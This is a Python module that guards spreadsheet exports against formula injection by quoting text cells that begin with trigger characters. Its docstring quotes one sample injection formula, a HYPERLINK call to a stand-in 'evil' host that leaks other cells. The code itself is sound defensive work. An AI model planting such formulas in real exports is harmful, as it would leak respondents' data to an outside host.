"""Text cells that stay text in spreadsheets (CSV and XLSX exports, report tables).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
a tab or carriage return, the same) as a formula: a respondent's comment
``=HYPERLINK("http://evil/?"&B2,"Click")`` would leak other cells when an analyst opens
the export. Following OWASP's advice on CSV injection, every *text* cell that starts with
one of those characters (or their full-width forms) is prefixed with a single quote, which
spreadsheets show as text. Numbers stay numbers: only ``str`` values are touched. Control
characters that XLSX cannot hold are replaced by U+FFFD so that one old answer cannot
break a whole export.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

from cxgap.text.control import replace_forbidden

SPREADSHEET_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""First characters that make a spreadsheet read a cell as a formula."""


def spreadsheet_cell(value: Any) -> Any:
    """``value`` made safe to write into a spreadsheet cell; non-text values unchanged.

    >>> spreadsheet_cell('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> spreadsheet_cell(-3.5)
    -3.5
    >>> spreadsheet_cell("  @SUM(A1)")
    "'  @SUM(A1)"
    """
    if not isinstance(value, str) or not value:
        return value
    value = replace_forbidden(value)
    stripped = value.lstrip(" \u00a0\u3000")
    if value[0] in SPREADSHEET_TRIGGERS or (stripped and stripped[0] in SPREADSHEET_TRIGGERS):
        return "'" + value
    return value


def unquote_cell(value: Any) -> Any:
    """Undo :func:`spreadsheet_cell` on a cell read back from a CSV or XLSX export, so an
    exported file imports again unchanged: ``'=x`` becomes ``=x``; a quote before any
    other text stays.

    >>> unquote_cell("'=SUM(A1)")
    '=SUM(A1)'
    >>> unquote_cell("'tis")
    "'tis"
    """
    if isinstance(value, str) and value.startswith("'") and len(value) > 1:
        inner = value[1:]
        if spreadsheet_cell(inner) == value:
            return inner
    return value


def unquote_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with :func:`unquote_cell` applied to every text cell that starts with a
    quote (columns without one are left as they are)."""
    for name in frame.columns:
        column = frame[name]
        if column.dtype.kind != "O":
            continue
        quoted = column.map(lambda v: isinstance(v, str) and v.startswith("'"))
        if bool(quoted.any()):
            frame.loc[quoted, name] = column[quoted].map(unquote_cell)
    return frame


def spreadsheet_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are safe for spreadsheets;
    numeric columns keep their dtype."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype.kind in "biufcmM":
            continue
        out[name] = column.map(spreadsheet_cell, na_action="ignore")
    out.columns = [spreadsheet_cell(str(c)) for c in out.columns]
    return out
